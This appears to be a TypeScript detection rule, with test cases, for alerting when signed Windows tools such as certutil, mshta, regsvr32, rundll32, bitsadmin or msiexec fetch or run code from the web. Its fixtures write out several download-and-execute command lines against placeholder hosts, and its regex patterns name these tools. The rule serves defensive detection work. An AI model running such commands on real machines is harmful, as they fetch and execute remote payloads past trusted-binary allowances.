import {
  rundll32Call,
  type WindowsCommand,
  windowsCommandsOf,
} from '../../src/detect/reading/windows-command.ts'
import { rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'windows.trusted-tool-fetches',
  title: 'Tool of Windows fetches or runs code from the web',
  severity: 'high',
  on: table('process_etw_events', 'processes'),
  attack: ['T1218.005', 'T1218.010', 'T1218.011', 'T1105', 'T1197'],
  means:
    'certutil, mshta, regsvr32, rundll32, bitsadmin and their like are signed by Microsoft and let through everywhere, so attackers have them fetch the next piece of their code, or run it.',
  check:
    'SELECT pid, parent, name, path, cmdline, start_time FROM processes ORDER BY start_time DESC LIMIT 50;',
  benign:
    'Administrators who fetch a file with certutil or bitsadmin, installers of old. Name the addresses in the exceptions.',
  runbook:
    'What is the address, and what did it answer? What is the parent: a document, a browser, a script? Isolate the host unless someone owns up; keep the file that was fetched, and look for what it started.',
  references: [
    'https://attack.mitre.org/techniques/T1218/',
    'https://attack.mitre.org/techniques/T1105/',
    'https://lolbas-project.github.io/',
  ],
  detect: ({ columns }) => fetched(columns.cmdline) !== null,
  exclude: ({ columns }) => columns.type === 'ProcessStop',
  alertTitle: ({ host, columns }) => `${fetched(columns.cmdline)} on ${host}: ${columns.cmdline}`,
  dedup: ({ hostId, columns }) => `${hostId} ${fetched(columns.cmdline)}`,
  context: ({ columns }) => ({
    command: columns.cmdline,
    program: columns.path,
    pid: columns.pid,
    parent: columns.ppid ?? columns.parent ?? '',
    user: columns.username ?? '',
  }),
  tests: [
    {
      name: 'certutil',
      match: true,
      columns: started('certutil.exe -urlcache -split -f http://192.0.2.1/a.exe C:\\Users\\Public\\a.exe'),
      title:
        'certutil fetches a file on test-host: certutil.exe -urlcache -split -f http://192.0.2.1/a.exe C:\\Users\\Public\\a.exe',
      dedup: 'test-host-id certutil fetches a file',
      severity: 'high',
    },
    {
      name: 'certutil by its other way',
      match: true,
      columns: started('certutil /VerifyCTL /f https://example.com/a'),
    },
    {
      name: 'mshta',
      match: true,
      columns: started('"C:\\Windows\\System32\\mshta.exe" https://example.com/a.hta'),
    },
    {
      name: 'mshta with code',
      match: true,
      columns: started('mshta vbscript:Close(Execute("GetObject(""script:http://192.0.2.1/a"")"))'),
    },
    {
      name: 'regsvr32',
      match: true,
      columns: started('regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll'),
    },
    {
      name: 'rundll32',
      match: true,
      columns: started('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'),
    },
    {
      name: 'bitsadmin through a shell',
      match: true,
      columns: started('cmd /c bitsadmin /transfer j /download http://192.0.2.1/a C:\\a.exe'),
    },
    {
      name: 'msiexec',
      match: true,
      table: 'processes',
      columns: { cmdline: 'msiexec /q /i https://example.com/a.msi', parent: '4000' },
    },
    { name: 'a certificate', match: false, columns: started('certutil -verify -urlfetch C:\\a.cer') },
    {
      name: 'a help page',
      match: false,
      columns: started('mshta.exe "C:\\Program Files\\Example\\help.hta"'),
    },
    { name: 'a DLL registered', match: false, columns: started('regsvr32 /s C:\\Windows\\System32\\a.dll') },
    {
      name: 'a control panel',
      match: false,
      columns: started('rundll32.exe shell32.dll,Control_RunDLL timedate.cpl'),
    },
    {
      name: 'an installer on a disk',
      match: false,
      columns: started('msiexec /i C:\\a.msi TRANSFORMS=http.mst'),
    },
    { name: 'the jobs of bitsadmin', match: false, columns: started('bitsadmin /list /allusers') },
    {
      name: 'the end of a process',
      match: false,
      columns: { ...started('mshta http://192.0.2.1/a'), type: 'ProcessStop' },
    },
    {
      name: 'no longer running',
      match: false,
      action: 'removed',
      table: 'processes',
      columns: { cmdline: 'mshta http://192.0.2.1/a' },
    },
  ],
})

const LINE_MAX = 8192
const TOOLS = /certutil|mshta|regsvr32|rundll32|bitsadmin|msiexec|installutil|desktopimgdownldr|cmstp/i

/** What the tool does, or null. */
function fetched(cmdline: string): string | null {
  if (!TOOLS.test(cmdline)) return null
  return windowsCommandsOf(cmdline.slice(0, LINE_MAX)).flatMap(command => fetchedBy(command) ?? [])[0] ?? null
}

function fetchedBy(command: WindowsCommand): string | null {
  const { program, args } = command
  const url = args.some(arg => /^"?https?:\/\//i.test(arg))
  switch (program) {
    case 'certutil':
      return url && args.some(arg => /^[-/](?:urlcache|verifyctl|url)$/i.test(arg))
        ? 'certutil fetches a file'
        : null
    case 'bitsadmin':
      return url ? 'bitsadmin fetches a file' : null
    case 'mshta':
      return args.some(arg => /^"?(?:https?|javascript|vbscript|about):/i.test(arg))
        ? 'mshta runs code'
        : null
    case 'regsvr32':
      return args.some(arg => /^[-/]i:"?https?:/i.test(arg)) ? 'regsvr32 runs code from the web' : null
    case 'rundll32':
      return args.some(arg => /^"?(?:javascript|vbscript):/i.test(arg)) ||
        rundll32Call(command)?.entry === 'runhtmlapplication'
        ? 'rundll32 runs a script'
        : null
    case 'msiexec':
      return url ? 'msiexec installs from the web' : null
    case 'desktopimgdownldr':
      return args.some(arg => /^\/lockscreenurl:/i.test(arg)) ? 'desktopimgdownldr fetches a file' : null
    default:
      return null
  }
}

function started(cmdline: string) {
  return {
    type: 'ProcessStart',
    pid: '4242',
    ppid: '4000',
    path: 'C:\\Windows\\System32\\x.exe',
    cmdline,
    username: 'EXAMPLE\\ada',
  }
}
